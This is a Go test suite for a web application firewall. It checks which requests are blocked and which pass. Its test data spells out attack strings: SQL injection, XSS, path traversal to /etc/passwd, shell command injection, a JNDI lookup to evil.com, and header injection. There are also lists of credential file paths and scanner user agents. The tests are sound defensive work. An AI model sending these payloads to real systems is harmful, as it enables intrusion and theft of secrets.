package waf

import (
	"log/slog"
	"testing"

	"github.com/koltyakov/raccoon/internal/httpproto"
)

func newRequest(target string, headers ...string) *httpproto.Request {
	req := httpproto.NewRequest(httpproto.MethodGet, target, "HTTP/1.1")
	req.Header.Set("Host", "example.com")
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	return req
}

func newTestFirewall(t *testing.T) *Firewall {
	t.Helper()
	return New(Config{Enabled: true}, slog.New(slog.DiscardHandler))
}

func assertBlocked(t *testing.T, fw *Firewall, req *httpproto.Request) {
	t.Helper()
	if _, blocked := fw.Check(req, "127.0.0.1"); !blocked {
		t.Errorf("expected block for %s %s", req.Method, req.Path)
	}
}

func assertAllowed(t *testing.T, fw *Firewall, req *httpproto.Request) {
	t.Helper()
	if evt, blocked := fw.Check(req, "127.0.0.1"); blocked {
		t.Errorf("expected pass-through, got block by %q for %s %s", evt.Rule, req.Method, req.Path)
	}
}

func TestDisabledFirewallIsNil(t *testing.T) {
	t.Parallel()

	fw := New(Config{Enabled: false}, nil)
	if fw != nil {
		t.Fatal("expected nil firewall when disabled")
	}
	assertAllowed(t, fw, newRequest("/test?id=1'+OR+1=1--"))
}

func TestRuleMatches(t *testing.T) {
	t.Parallel()

	fw := newTestFirewall(t)
	tests := []struct {
		name   string
		target string
	}{
		{"union select", "/search?q=1+UNION+SELECT+*+FROM+users"},
		{"drop table", "/api?x=foo;+DROP+TABLE+users"},
		{"tautology single", "/login?user=admin'%20OR%20'1'='1"},
		{"sleep timing", "/api?id=1;sleep(5)"},
		{"hex literal", "/api?val=0x414243"},
		{"inline comment", "/api?q=1/**/OR/**/1=1"},
		{"script tag", "/page?q=<script>alert(1)</script>"},
		{"javascript uri", "/page?url=javascript:alert(1)"},
		{"img onerror", "/page?x=<img+src=x+onerror=alert(1)>"},
		{"document cookie", "/page?x=document.cookie"},
		{"dot-dot slash", "/static/../../../etc/passwd"},
		{"encoded slash", "/static/..%2f..%2f..%2fetc/passwd"},
		{"encoded backslash", "/static/..%5c..%5cwindows/system32"},
		{"null byte", "/file%00.php"},
		{"command substitution", "/api?cmd=$(whoami)"},
		{"pipe to cat", "/api?x=foo|cat+/etc/passwd"},
		{"jndi ldap", "/api?x=${jndi:ldap://evil.com/a}"},
		{"double encoded quote", "/login?user=admin%2527%20OR%20%25271%2527=%25271"},
		{"php tag", "/page?x=<?php+echo+1;?>"},
		{"data base64", "/page?x=data:text/html;base64,PHNjcmlwdD4="},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assertBlocked(t, fw, newRequest(tt.target))
		})
	}
}

func TestSensitiveFilePaths(t *testing.T) {
	t.Parallel()

	fw := newTestFirewall(t)
	for _, p := range []string{
		"/.env",
		"/.git/config",
		"/.git",
		"/wp-login.php",
		"/phpmyadmin/",
		"/.aws/credentials",
		"/.ssh/id_rsa",
		"/.kube/config",
	} {
		t.Run(p, func(t *testing.T) {
			assertBlocked(t, fw, newRequest(p))
		})
	}
	assertAllowed(t, fw, newRequest("/.well-known/acme-challenge/token"))
}

func TestHeaderRules(t *testing.T) {
	t.Parallel()

	fw := newTestFirewall(t)
	assertBlocked(t, fw, newRequest("/", "X-Api-Version", "${jndi:ldap://evil.com/a}"))
	assertBlocked(t, fw, newRequest("/", "X-Custom", "value\r\nInjected: header"))
	for _, ua := range []string{"sqlmap/1.5", "Nikto/2.1.6", "Mozilla/5.0 (nuclei)", "gobuster/3.1"} {
		assertBlocked(t, fw, newRequest("/", "User-Agent", ua))
	}
	// Cookie values are session tokens and never inspected.
	assertAllowed(t, fw, newRequest("/", "Cookie", "__rsession=1/**/x"))
}

func TestStructuralLimits(t *testing.T) {
	t.Parallel()

	fw := newTestFirewall(t)
	long := make([]byte, maxURILength+1)
	for i := range long {
		long[i] = 'a'
	}
	evt, blocked := fw.Check(newRequest("/"+string(long)), "")
	if !blocked || evt.Rule != "uri-too-long" {
		t.Fatalf("expected uri-too-long, got %+v blocked=%v", evt, blocked)
	}

	req := newRequest("/")
	for i := 0; i <= maxHeaderCount; i++ {
		req.Header.Set("X-H"+string(rune('a'+i%26))+string(rune('a'+i/26)), "v")
	}
	evt, blocked = fw.Check(req, "")
	if !blocked || evt.Rule != "too-many-headers" {
		t.Fatalf("expected too-many-headers, got %+v blocked=%v", evt, blocked)
	}
}

func TestLegitimateRequestsAllowed(t *testing.T) {
	t.Parallel()

	fw := newTestFirewall(t)
	tests := []struct {
		name   string
		target string
		ua     string
	}{
		{"simple GET", "/", "Mozilla/5.0"},
		{"static asset", "/assets/style.css", "Mozilla/5.0"},
		{"query param", "/search?q=hello+world", "Mozilla/5.0"},
		{"json api", "/api/data?page=2&limit=50", "Mozilla/5.0"},
		{"path with dots", "/files/report.v2.pdf", "Mozilla/5.0"},
		{"numeric query", "/items?id=42&sort=name", "Chrome/120"},
		{"complex path", "/api/v2/users/123/profile", "Safari/17"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assertAllowed(t, fw, newRequest(tt.target, "User-Agent", tt.ua, "X-Request-ID", "abc-123-def"))
		})
	}
}

func TestAuditOnlyReportsWithoutBlocking(t *testing.T) {
	t.Parallel()

	var events []BlockEvent
	fw := New(Config{
		Enabled:   true,
		AuditOnly: true,
		OnBlock:   func(evt BlockEvent) { events = append(events, evt) },
	}, nil)

	req := newRequest("/search?q=1+UNION+SELECT+*+FROM+users", "User-Agent", "curl/8")
	req.Header.Set("Host", "[2001:db8::10]:10443")
	if _, blocked := fw.Check(req, "10.0.0.1"); blocked {
		t.Fatal("audit mode must not block")
	}
	if len(events) != 1 {
		t.Fatalf("expected one event, got %d", len(events))
	}
	evt := events[0]
	if evt.Host != "2001:db8::10" || evt.Rule != "sql-injection" || evt.RemoteAddr != "10.0.0.1" || evt.UserAgent != "curl/8" {
		t.Fatalf("unexpected event: %+v", evt)
	}
}

func TestBuiltinRulesAreUniqueAndTargeted(t *testing.T) {
	t.Parallel()

	seen := make(map[string]bool, len(builtinRules))
	for _, rl := range builtinRules {
		if seen[rl.name] {
			t.Fatalf("duplicate rule %q", rl.name)
		}
		seen[rl.name] = true
		if rl.targets == 0 {
			t.Fatalf("rule %q inspects nothing", rl.name)
		}
	}
	if !seen[sensitiveFileRule] {
		t.Fatal("sensitive file rule missing")
	}
}

func BenchmarkCheckCleanRequest(b *testing.B) {
	fw := New(Config{Enabled: true}, slog.New(slog.DiscardHandler))
	req := newRequest("/api/data?page=1&limit=20", "User-Agent", "Mozilla/5.0", "Accept", "text/html")

	b.ReportAllocs()
	for b.Loop() {
		fw.Check(req, "127.0.0.1")
	}
}

func BenchmarkCheckMaliciousRequest(b *testing.B) {
	fw := New(Config{Enabled: true}, slog.New(slog.DiscardHandler))
	req := newRequest("/search?q=1+UNION+SELECT+*+FROM+users", "User-Agent", "sqlmap/1.5")

	b.ReportAllocs()
	for b.Loop() {
		fw.Check(req, "127.0.0.1")
	}
}
